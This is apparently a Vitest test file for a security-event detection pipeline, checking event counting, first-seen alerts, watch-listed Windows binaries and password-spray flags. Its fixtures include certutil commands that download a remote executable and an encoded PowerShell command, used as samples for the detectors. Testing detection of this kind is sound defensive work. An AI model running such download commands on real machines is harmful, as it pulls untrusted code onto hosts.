import { describe, expect, it } from 'vitest';
import { MemoryStateStore } from '../../stream/state/memory.js';
import { CountStage } from '../../stream/count/stage.js';
import { DetectStage, type DetectConfig } from '../../stream/detect/stage.js';
import { DEFAULT_WATCHLIST, watchlistFlags } from '../../stream/detect/watchlist.js';
import { imageKey, statKeys } from '../../stream/count/keys.js';
import { validateEvent } from '../../schema/avro.js';
import { makeEvent } from '../fixtures/event.js';

const HOUR = 3_600_000;
const T0 = Date.UTC(2024, 0, 1);
const cfg: DetectConfig = {
  watchlist: DEFAULT_WATCHLIST,
  watchlistRoutineAfter: 100,
  learningWindowMs: 24 * HOUR,
  firstSeenKinds: ['logon', 'process_image', 'process_hash', 'parent_child', 'host_pair'],
  spray: { windowMs: 10 * 60_000, minDistinctUsers: 5 },
};

async function runStages(events: ReturnType<typeof makeEvent>[], state = new MemoryStateStore()) {
  await new CountStage(state).run(events);
  await new DetectStage(state, cfg).run(events);
  return events;
}

const proc = (ts: number, parent: string, child: string, host = 'ws-1', extra = {}) =>
  makeEvent({ ts, host, user: 'alice', parent_process: parent, process: child, process_path: `c:\\windows\\system32\\${child}`, ...extra });

describe('count keys', () => {
  it('counts process image, hash and parent→child for a process start', () => {
    const keys = statKeys(proc(T0, 'winword.exe', 'powershell.exe', 'ws-1', { sha256: 'ab'.repeat(32) }));
    expect(keys).toEqual([
      { kind: 'process_image', key: 'c:\\windows\\system32\\powershell.exe' },
      { kind: 'process_hash', key: `sha256:${'ab'.repeat(32)}` },
      { kind: 'parent_child', key: 'winword.exe>powershell.exe' },
    ]);
  });

  it('keys images under a user profile as one image for all users', () => {
    expect(imageKey('C:\\Users\\FJones\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe')).toBe('c:\\users\\*\\appdata\\local\\microsoft\\onedrive\\onedrive.exe');
    expect(imageKey('C:\\Windows\\System32\\cmd.exe')).toBe('c:\\windows\\system32\\cmd.exe');
  });

  it('counts host pairs between internal addresses only', () => {
    const conn = (src: string, dst: string) => statKeys(makeEvent({ event_type: 'network_connection', src_ip: src, dst_ip: dst }));
    expect(conn('10.1.2.3', '172.16.0.10')).toEqual([{ kind: 'host_pair', key: '10.1.2.3>172.16.0.10' }]);
    expect(conn('10.1.2.3', '81.2.69.160')).toEqual([]);
    expect(conn('172.32.0.1', '10.0.0.1')).toEqual([]);
  });

  it('does not count logons of machine accounts or failed logons', () => {
    expect(statKeys(makeEvent({ event_type: 'logon', user: 'ws-1$', host: 'dc1', outcome: 'success' }))).toEqual([]);
    expect(statKeys(makeEvent({ event_type: 'logon', user: 'bob', host: 'dc1', outcome: 'failure' }))).toEqual([]);
    expect(statKeys(makeEvent({ event_type: 'logon', user: 'bob', host: 'dc1', outcome: 'success' }))).toEqual([{ kind: 'logon', key: 'bob@dc1' }]);
  });
});

describe('first-seen flags', () => {
  it('records first-seen stats from a cold start but flags nothing inside the learning window', async () => {
    const [e] = await runStages([proc(T0, 'explorer.exe', 'notepad.exe')]);
    expect(e!.stats.find((s) => s.kind === 'parent_child')).toMatchObject({ count: 1, first_seen: true });
    expect(e!.flags).toEqual([]);
  });

  it('flags a key first seen after the host has a day of history, once', async () => {
    const state = new MemoryStateStore();
    await runStages([proc(T0, 'explorer.exe', 'notepad.exe')], state);
    const later = await runStages(
      [proc(T0 + 30 * HOUR, 'explorer.exe', 'notepad.exe'), proc(T0 + 30 * HOUR, 'excel.exe', 'mshta.exe'), proc(T0 + 31 * HOUR, 'excel.exe', 'mshta.exe')],
      state,
    );
    expect(later[0]!.flags.filter((f) => f.rule.startsWith('first_seen'))).toEqual([]);
    const rules = later[1]!.flags.map((f) => f.rule);
    expect(rules).toContain('first_seen_parent_child');
    expect(later[1]!.flags.find((f) => f.rule === 'first_seen_parent_child')!.reason).toBe('excel.exe started mshta.exe for the first time (on ws-1)');
    expect(later[2]!.flags.some((f) => f.rule === 'first_seen_parent_child')).toBe(false);
    expect(later[2]!.stats.find((s) => s.kind === 'parent_child')).toMatchObject({ count: 2, first_seen: false });
  });

  it('keeps a new host in its own learning window', async () => {
    const state = new MemoryStateStore();
    await runStages([proc(T0, 'explorer.exe', 'notepad.exe', 'ws-1')], state);
    const [e] = await runStages([proc(T0 + 48 * HOUR, 'excel.exe', 'mshta.exe', 'ws-new')], state);
    expect(e!.flags.filter((f) => f.rule.startsWith('first_seen'))).toEqual([]);
  });
});

describe('watch-listed binaries', () => {
  const list = new Set(DEFAULT_WATCHLIST);
  it('flags a watch-listed binary with a human reason', () => {
    const flags = watchlistFlags(proc(T0, 'explorer.exe', 'quser.exe', 'ws-7', { user_domain: 'corp' }), list);
    expect(flags).toEqual([{ rule: 'watchlisted_binary', score: 20, reason: 'quser.exe executed from explorer.exe on ws-7 by corp\\alice' }]);
  });

  it('flags a certutil download as suspicious use, harder', () => {
    const e = proc(T0, 'cmd.exe', 'certutil.exe', 'ws-7', { command_line: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe' });
    const flags = watchlistFlags(e, list);
    expect(flags.map((f) => [f.rule, f.score])).toEqual([['watchlisted_binary', 20], ['lolbin_suspicious_use', 75]]);
  });

  it('stops flagging a routine pair but still flags its suspicious use', () => {
    const routine = (cmd: string) =>
      proc(T0, 'gpscript.exe', 'cmd.exe', 'ws-7', { command_line: cmd, stats: [{ kind: 'parent_child', key: 'gpscript.exe>cmd.exe', count: 101, first_seen: false }] });
    expect(watchlistFlags(routine('cmd /c net use h: \\\\fs01\\home'), list, 100)).toEqual([]);
    const early = proc(T0, 'gpscript.exe', 'cmd.exe', 'ws-7', { stats: [{ kind: 'parent_child', key: 'gpscript.exe>cmd.exe', count: 100, first_seen: false }] });
    expect(watchlistFlags(early, list, 100)[0]!.reason).toBe('cmd.exe executed from gpscript.exe on ws-7 by alice (this pair ran 100 times so far)');
    const psRoutine = proc(T0, 'explorer.exe', 'powershell.exe', 'ws-7', {
      command_line: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQ=',
      stats: [{ kind: 'parent_child', key: 'explorer.exe>powershell.exe', count: 5000, first_seen: false }],
    });
    expect(watchlistFlags(psRoutine, list, 100).map((f) => f.rule)).toEqual(['lolbin_suspicious_use']);
  });

  it('ignores binaries not on the list and events that are not process starts', () => {
    expect(watchlistFlags(proc(T0, 'explorer.exe', 'chrome.exe'), list)).toEqual([]);
    expect(watchlistFlags(makeEvent({ event_type: 'network_connection', process: 'cmd.exe' }), list)).toEqual([]);
  });
});

describe('password spray', () => {
  const fail = (user: string, minute: number) =>
    makeEvent({ event_type: 'logon', outcome: 'failure', user, host: 'dc1', src_ip: '10.1.2.3', ts: T0 + minute * 60_000, dataset: 'security' });

  it('flags failures once one source tried enough distinct users, and a success after them harder', async () => {
    const events = ['a', 'b', 'c', 'd', 'e', 'f'].map((u, i) => fail(u, i));
    const success = makeEvent({ event_type: 'logon', outcome: 'success', user: 'f', host: 'dc1', src_ip: '10.1.2.3', ts: T0 + 7 * 60_000 });
    await runStages([...events, success]);
    expect(events.every((e) => e.flags.some((f) => f.rule === 'password_spray'))).toBe(true);
    expect(success.flags.map((f) => f.rule)).toContain('logon_after_password_spray');
  });

  it('does not flag a few failures of a few users', async () => {
    const events = [fail('a', 0), fail('a', 1), fail('b', 2)];
    await runStages(events);
    expect(events.flatMap((e) => e.flags)).toEqual([]);
  });
});

describe('events after count and detect still conform to the Avro schema', () => {
  it('has no schema violations', async () => {
    const events = await runStages([proc(T0, 'cmd.exe', 'certutil.exe', 'ws-1', { command_line: 'certutil -urlcache -f http://x/y z' })]);
    expect(validateEvent(events[0])).toEqual([]);
  });
});
